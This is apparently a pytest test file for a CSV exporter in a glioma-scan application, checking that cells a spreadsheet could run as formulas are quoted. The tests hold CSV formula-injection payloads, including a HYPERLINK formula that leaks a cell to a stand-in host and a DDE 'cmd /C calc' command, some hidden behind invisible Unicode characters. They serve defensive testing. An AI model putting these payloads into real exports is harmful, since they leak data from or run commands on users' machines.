"""The one CSV writer (core.csv_export): no cell a spreadsheet could run as a formula, whatever hides its start."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv_export import csv_bytes, is_formula, safe_cell

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\u200b=HYPERLINK(1)",  # zero-width space
    "\ufeff=HYPERLINK(1)",  # byte-order mark
    "\u202e=1+1",  # right-to-left override
    "\u2060\u200d@SUM(1)",  # word joiner, zero-width joiner
    "  \u00a0=1+1",  # spaces, no-break space
    "\x00=1+1",  # a control character
    "\uff1dHYPERLINK(1)",  # fullwidth equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_quoted_after_invisible_characters(text: str) -> None:
    assert is_formula(text)
    cell = safe_cell(text)
    assert cell.startswith("'"), cell
    assert not any(ch in cell for ch in "\u200b\ufeff\u202e\u2060\u200d\x00")  # hidden characters dropped


@pytest.mark.parametrize("text", ["scan.png", "a=b.png", "study.zip/one-2.png", "1.5", "'=already quoted", "",
                                  "glioma (0.912)", "line one\nline two", "DOE, JANE \"x\""])
def test_ordinary_cells_are_kept_as_written(text: str) -> None:
    assert not is_formula(text)
    assert safe_cell(text) == text


def test_numbers_and_none_pass_unchanged() -> None:
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None and safe_cell(True) is True


def test_every_cell_of_the_file_is_safe_and_reads_back() -> None:
    rows = [{"file": name, "status": "ok", "p_glioma": 0.25, "reason": None} for name in HOSTILE]
    rows.append({"file": "=evil", "status": "@x", "p_glioma": -1.0, "reason": "+y", "extra": "=dropped"})
    data = csv_bytes(rows, ["file", "status", "p_glioma", "reason"])
    read = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert read[0] == ["file", "status", "p_glioma", "reason"] and len(read) == len(rows) + 1
    for record in read[1:]:
        for cell in (record[0], record[1], record[3]):  # the text columns (p_glioma holds numbers)
            assert cell == "" or cell[0] not in "=+-@\t\r", record
    assert read[-1] == ["'=evil", "'@x", "-1.0", "'+y"]  # numbers stay numbers; the extra key is left out
    assert csv_bytes([]) == b"" and csv_bytes([], ["a"]) == b"a\r\n"


def test_the_batch_table_and_the_feedback_export_use_it() -> None:
    from core.feedback import feedback_csv
    from ui.batch_page import rows_csv

    rows = [{"file": "=HYPERLINK(\"http://example.invalid\",\"x\").png", "status": "rejected", "reason": "\u200b+1"}]
    assert rows_csv(rows).decode().splitlines()[1].startswith("\"'=HYPERLINK(")
    feedback = feedback_csv([{"comment": "\ufeff=1+1", "reader_label": "-x"}]).decode().splitlines()[1]
    assert "'=1+1" in feedback and "'-x" in feedback
